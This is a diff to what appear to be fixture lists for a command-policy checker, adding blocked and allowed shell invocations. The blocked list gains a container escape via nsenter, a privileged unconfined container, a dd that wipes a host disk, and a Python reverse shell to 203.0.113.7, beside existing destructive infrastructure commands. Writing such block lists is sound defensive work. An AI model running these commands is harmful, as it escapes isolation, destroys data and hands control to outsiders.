@@ -347,6 +347,11 @@ RUNNER_GRAMMAR = [
     "chmod 0777 /usr/local/bin/kubectl", "sudo chmod a+rw /run/docker.sock", "tofu state rm 'module.vpc'",
     "terraform force-unlock -force 0f3a", "npx cdk destroy --all --force", "etcdctl del /registry --prefix",
     "git gc --prune=all", "vault auth disable github",
+    # Containers given the host's processes, capabilities or devices; code that wires a shell to a socket.
+    "docker run -it --pid=host ubuntu nsenter --target 1 --mount --uts --ipc --net sh",
+    "docker run -it --cap-add=SYS_ADMIN --security-opt apparmor=unconfined ubuntu bash",
+    "podman run --rm --device /dev/nvme0n1 alpine dd if=/dev/zero of=/dev/nvme0n1",
+    "python3 -c 'import socket as k,os,pty;c=k.create_connection((\"203.0.113.7\",443));os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);pty.spawn(\"/bin/sh\")'",
 ]
 
 # Runners and help invocations that do nothing a policy stops.
@@ -369,6 +374,8 @@ RUNNERS_ORDINARY = [
     "Rscript -e 'summary(read.csv(\"data.csv\"))'", "julia -e 'println(VERSION)'", "deno eval 'console.log(Deno.version)'",
     "terraform state show module.vpc", "git gc --auto", "etcdctl get /config --prefix", "consul kv get -recurse app/",
     "chmod 640 /var/log/app/worker.log",
+    "docker run -it --rm -p 3000:3000 node:20 npm start",
+    "python3 -c 'import socket; s = socket.create_connection((\"localhost\", 5432)); print(\"up\")'",
     "gh run view 9912 --log-failed", "gh pr review 42 --comment -b 'nit: rename'",
     "git rebase -x 'cargo test -q' origin/main", "git bisect run ./scripts/check.sh", "taskset -c 0,1 make -j2",
     "ssh -o ProxyCommand='ssh -W %h:%p bastion.internal' app-01 uptime",
